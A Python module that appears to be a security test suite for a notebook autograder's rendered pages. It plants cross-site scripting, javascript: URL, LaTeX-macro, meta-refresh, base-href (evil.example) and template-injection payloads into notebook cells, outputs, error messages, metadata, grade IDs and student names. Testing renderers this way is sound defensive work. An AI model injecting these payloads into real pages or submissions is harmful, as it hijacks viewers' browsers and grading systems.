"""HTML, JavaScript and LaTeX wherever a page could show them: cells, outputs, errors, prints, names."""

from attacks.kit import ALL, POINTS, REST, STEP, Attack, code, step

LINE = "pages"
OWN = "document.title='owned'"
SCRIPT = f"<script>{OWN}</script>"
MARKUP = (
    f'{SCRIPT}<img src=x onerror="{OWN}"><svg onload="{OWN}"><iframe srcdoc="<script>parent.{OWN}</script>"></iframe>'
    f'<a href="javascript:{OWN}">click me</a><details open ontoggle="{OWN}"><meta http-equiv=refresh content="0;url=data:text/html,owned">'
    f"</pre></textarea></style></title></script>{SCRIPT}<style>body{{display:none}}</style><base href='//evil.example/'>"
)
MARKDOWN = f"""{MARKUP}

[click me](javascript:{OWN}) [click me][1] ![click me](x"onerror="{OWN}) <javascript:{OWN}>

[1]: javascript&#58;{OWN}

$\\href{{javascript:{OWN}}}{{click me}} \\require{{html}} \\class{{x" onmouseover="{OWN}}}{{click me}}$
$$\\def\\x{{\\x\\x}} \\unicode{{<img src=x onerror={OWN}>}}$$

```{{=html}}
{MARKUP}
```

    {MARKUP}

| <b onclick="{OWN}">click me</b> |
|---|
"""


def cells_of_every_kind(notebook):
    """Markdown and raw cells, attachments, titles, widgets: all hostile."""
    for kind in ("markdown", "raw"):
        notebook["cells"].insert(
            1,
            {
                "cell_type": kind,
                "id": f"h-{kind}",
                "metadata": {"format": "text/html", "raw_mimetype": "text/html"},
                "source": MARKDOWN,
            },
        )
    notebook["cells"][1]["attachments"] = {
        "x.svg": {"image/svg+xml": f"<svg onload={OWN}/>", "text/html": MARKUP}
    }
    notebook["metadata"].update(
        title=MARKUP,
        authors=[{"name": MARKUP}],
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {MARKUP: {}}}},
    )
    return notebook


def outputs(notebook):
    """Outputs of every kind that a page could show as they are."""
    hostile = code("1")
    hostile["outputs"] = [
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {
                "text/html": MARKUP,
                "application/javascript": OWN,
                "image/svg+xml": f"<svg onload={OWN}/>",
                "text/latex": MARKDOWN,
                "text/markdown": MARKDOWN,
            },
        },
        {"output_type": "stream", "name": "stdout", "text": MARKUP},
        {
            "output_type": "error",
            "ename": MARKUP,
            "evalue": MARKUP,
            "traceback": [MARKUP, "\x1b[31m" + MARKUP],
        },
    ]
    notebook["cells"].insert(0, hostile)
    return notebook


def ids(notebook):
    """Metadata that a page's template may write into attributes."""
    notebook["cells"].append(
        code(
            "1",
            nbgrader={
                "grade": True,
                "solution": False,
                "locked": True,
                "task": False,
                "points": 1,
                "schema_version": 3,
                "grade_id": MARKUP,
            },
            tags=[MARKUP],
            name=MARKUP,
        )
    )
    return notebook


ATTACKS = [
    Attack("cells_of_markup", ALL, change=cells_of_every_kind),
    Attack("outputs_of_markup", ALL, change=outputs),
    Attack("ids_of_markup", ALL, change=ids),
    Attack("prints_markup", REST, step(f"print({MARKUP!r})\nreturn np.zeros_like(s_prev)"), proof="<script>"),
    Attack("raises_markup", REST, step(f"raise ValueError({MARKUP!r})"), proof="<script>"),
    Attack("warns_markup", REST, step(f"import warnings\nwarnings.warn({MARKUP!r})\nreturn np.zeros_like(s_prev)"), proof="<script>"),
    Attack("types_named_markup", REST, step(f"return type({MARKUP!r}[:90], (), {{}})()")),
    Attack("keys_of_markup", REST, step(f"return {{{SCRIPT!r}: s_prev}}")),
    Attack("exceptions_named_markup", REST, step(f"raise type({SCRIPT!r}, (Exception,), {{}})('x')")),
    Attack("keys_of_markup_where_a_dict_is_asked", ALL - POINTS["rnn_step_backward"],
           {"rnn_step_backward": f"def rnn_step_backward(*a):\n    return a[1], a[2], {{{SCRIPT!r}: a[1], '`</code>{SCRIPT}': a[2]}}"}),
    Attack("source_lines_of_markup", REST, {STEP: f"def rnn_step(x_t, s_prev, W):\n    raise ValueError  # {SCRIPT} ` {SCRIPT} `"}),
    Attack("cell_errors_of_markup", ALL, own=(f"raise ValueError({MARKUP!r})", f"raise SystemExit({MARKUP!r})")),
    Attack("a_name_of_markup", ALL, student="x_<img src=x onerror=document.title='owned'>", nbgrader=False),
    Attack("a_name_of_script", ALL, student="x_<script>document.title='owned'<&%2fscript>", nbgrader=False),
    Attack("a_name_that_leaves_an_attribute", ALL, student="x_\"onmouseover=document.title='owned' x='", nbgrader=False),
    Attack("a_name_of_a_template", ALL, student="x_{{ 7*7 }}{% raw %}${7*7}", nbgrader=False),
]  # fmt: skip
